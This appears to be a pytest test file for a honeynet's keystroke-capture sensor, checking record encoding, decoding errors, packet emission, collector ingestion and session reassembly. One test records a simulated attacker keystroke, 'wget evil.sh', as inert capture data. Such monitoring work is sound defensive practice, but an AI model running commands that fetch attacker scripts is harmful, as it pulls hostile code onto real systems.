from __future__ import annotations

from dataclasses import replace
import logging
import random

import pytest

from conftest import HONEYPOT
from hn_bridge.capture import (
    HEADER_LEN,
    MAX_DATA,
    CaptureDecodeError,
    CaptureError,
    CaptureRecord,
    CaptureSensor,
    CaptureStore,
    RecordType,
    StoredRecord,
    collector_ingest,
    decode_record,
    emit,
    encode_record,
    pad_command,
    reassemble_session,
)
from hn_bridge.gateway import EventKind, QuotaPolicy, process, reset_state
from hn_bridge.netmodel import Direction, Protocol, classify_direction, verify_checksums
from hn_bridge.rulelang import RuleSet
from hn_bridge.stores import StoreName

GOLDEN = bytes.fromhex(
    "d0d0d0d0"  # magic
    "0001"  # version
    "0000"  # rec_type: input
    "00000001"  # counter
    "00000258"  # time_sec 600
    "000000fa"  # time_usec 250
    "000003e8"  # pid 1000
    "00000000"  # uid
    "00000000"  # fd
    "626173680000000000000000"  # "bash"
    "00000003"  # data_len
    "6c730a"  # "ls\n"
)


def golden_record() -> CaptureRecord:
    return CaptureRecord(
        rec_type=RecordType.INPUT,
        counter=1,
        time_sec=600,
        time_usec=250,
        pid=1000,
        uid=0,
        fd=0,
        command=pad_command("bash"),
        data=b"ls\n",
    )


def random_record(rng: random.Random) -> CaptureRecord:
    return CaptureRecord(
        rec_type=rng.choice(list(RecordType)),
        counter=rng.randrange(1 << 32),
        time_sec=rng.randrange(1 << 32),
        time_usec=rng.randrange(1_000_000),
        pid=rng.randrange(1 << 32),
        uid=rng.randrange(1 << 32),
        fd=rng.randrange(1 << 32),
        command=rng.randbytes(12),
        data=rng.randbytes(rng.randrange(0, 200)),
    )


def test_golden_record_bytes() -> None:
    assert HEADER_LEN == 48
    assert encode_record(golden_record()) == GOLDEN
    assert len(GOLDEN) == 51
    assert decode_record(GOLDEN) == golden_record()


def test_empty_record_is_header_only() -> None:
    encoded = encode_record(replace(golden_record(), data=b""))
    assert len(encoded) == HEADER_LEN
    assert encoded[-4:] == bytes(4)


def test_encode_rejects_inconsistent_length() -> None:
    with pytest.raises(CaptureError):
        encode_record(golden_record(), data_len=4)
    with pytest.raises(CaptureError):
        encode_record(replace(golden_record(), command=b"bash"))
    with pytest.raises(CaptureError):
        encode_record(replace(golden_record(), counter=1 << 32))


@pytest.mark.parametrize(
    ("buffer", "reason"),
    [
        (GOLDEN[:39], "short buffer"),
        (GOLDEN[: HEADER_LEN - 1], "short buffer"),
        (b"\x00" + GOLDEN[1:], "bad magic"),
        (GOLDEN[:4] + b"\x00\x02" + GOLDEN[6:], "bad version"),
        (GOLDEN[:-1], "length mismatch"),
        (GOLDEN + b"\x00", "length mismatch"),
        (GOLDEN[:6] + b"\x00\x07" + GOLDEN[8:], "bad record type"),
    ],
)
def test_decode_error_reasons(buffer: bytes, reason: str) -> None:
    with pytest.raises(CaptureDecodeError) as excinfo:
        decode_record(buffer)
    assert excinfo.value.reason == reason


def test_random_records_survive_the_codec() -> None:
    rng = random.Random(1101)
    for _ in range(10_000):
        record = random_record(rng)
        assert decode_record(encode_record(record)) == record


def test_emit_builds_capture_packets(cfg) -> None:
    sensor = CaptureSensor(HONEYPOT, cfg.collector_ip, cfg.capture_port, counter=41)

    first = emit(sensor, RecordType.INPUT, 1000, 0, 0, "bash", b"w", 1_500_000)
    second = emit(sensor, RecordType.OUTPUT, 1000, 0, 1, "bash", b"ok", 1_600_000)

    assert [decode_record(p.payload).counter for p in (first, second)] == [42, 43]
    assert sensor.counter == 43
    assert classify_direction(first, cfg) is Direction.CAPTURE_CHANNEL
    assert first.protocol is Protocol.UDP and verify_checksums(first)
    record = decode_record(first.payload)
    assert (record.time_sec, record.time_usec) == (1, 500_000)
    assert record.command_name == "bash"


def test_emit_rejects_oversized_data(cfg) -> None:
    sensor = CaptureSensor(HONEYPOT, cfg.collector_ip, cfg.capture_port)
    emit(sensor, RecordType.OUTPUT, 1, 0, 1, "cat", bytes(MAX_DATA), 0)
    with pytest.raises(CaptureError):
        emit(sensor, RecordType.OUTPUT, 1, 0, 1, "cat", bytes(MAX_DATA + 1), 0)
    assert sensor.counter == 1


def test_keystrokes_reach_the_collector_through_the_gateway(cfg, stores) -> None:
    sensor = CaptureSensor(HONEYPOT, cfg.collector_ip, cfg.capture_port)
    store = CaptureStore(sink=stores)
    packet = emit(sensor, RecordType.INPUT, 1200, 0, 0, "bash", b"wget evil.sh", 10)

    result = process(packet, reset_state(cfg, QuotaPolicy()), RuleSet(), cfg, QuotaPolicy(), stores)
    assert result.decision.packet is not None
    collector_ingest(result.decision.packet, store)

    assert [stored.record.data for stored in store.records] == [b"wget evil.sh"]
    assert store.records[0].host_ip == HONEYPOT
    assert len(stores.lines(StoreName.CAPTURE)) == 1


def test_duplicate_counter_is_kept_and_flagged(cfg) -> None:
    sensor = CaptureSensor(HONEYPOT, cfg.collector_ip, cfg.capture_port)
    store = CaptureStore()
    packet = emit(sensor, RecordType.INPUT, 1, 0, 0, "sh", b"id\n", 0)

    assert collector_ingest(packet, store) == []
    assert collector_ingest(packet, store) == []

    assert len(store.records) == 2
    assert store.records[0].flags == ()
    assert store.records[1].flags == ("duplicate-counter",)


def test_garbage_payload_is_stored_raw_with_alert(cfg, stores, make_packet) -> None:
    store = CaptureStore(sink=stores)
    packet = make_packet(
        HONEYPOT, cfg.collector_ip, Protocol.UDP, src_port=1101, dst_port=cfg.capture_port, payload=b"garbage"
    )

    events = collector_ingest(packet, store)

    assert store.records == []
    assert [raw.payload for raw in store.raw] == [b"garbage"]
    assert [(event.kind, event.reason) for event in events] == [(EventKind.ALERT, "capture-undecodable: short buffer")]
    assert len(stores.lines(StoreName.CAPTURE_RAW)) == 1
    assert len(stores.lines(StoreName.EVENTS)) == 1


def stored(counter: int, data: bytes, rec_type: RecordType = RecordType.INPUT, host: str = HONEYPOT) -> StoredRecord:
    record = replace(golden_record(), counter=counter, data=data, rec_type=rec_type)
    return StoredRecord(host, counter, record)


def test_session_orders_by_counter() -> None:
    store = CaptureStore(records=[stored(3, b"c"), stored(1, b"a"), stored(2, b"x", host="10.1.0.6"), stored(2, b"b")])
    assert len(store.for_host("10.1.0.6")) == 1
    session = reassemble_session(store, HONEYPOT)
    assert [record.counter for record in session.records] == [1, 2, 3]
    assert session.transcript == b"abc"


def test_session_of_empty_store() -> None:
    session = reassemble_session(CaptureStore(), HONEYPOT)
    assert session.records == ()
    assert session.transcript == b""


def test_session_filters_output_host_and_duplicates() -> None:
    records = [
        stored(1, b"ls\n"),
        stored(2, b"bin etc\n", RecordType.OUTPUT),
        stored(2, b"ignored"),
        stored(3, b"exit\n"),
        stored(1, b"other host", host="10.1.0.6"),
    ]
    session = reassemble_session(records, HONEYPOT)
    assert [record.counter for record in session.records] == [1, 2, 3]
    assert session.records[1].rec_type is RecordType.OUTPUT
    assert session.transcript == b"ls\nexit\n"


def test_stored_record_serialization() -> None:
    item = StoredRecord(HONEYPOT, 99, golden_record(), ("duplicate-counter",))
    raw = item.to_dict()
    assert raw["data"] == "6c730a" and raw["data_len"] == 3
    assert StoredRecord.from_dict(raw) == item


def test_long_command_name_is_truncated(caplog) -> None:
    caplog.set_level(logging.DEBUG, logger="hn_bridge.capture")
    assert pad_command("a-very-long-command") == b"a-very-long-"
    assert pad_command(b"sh") == b"sh" + b"\x00" * 10
    assert [record.message for record in caplog.records] == ["command b'a-very-long-command' truncated to 12 bytes"]
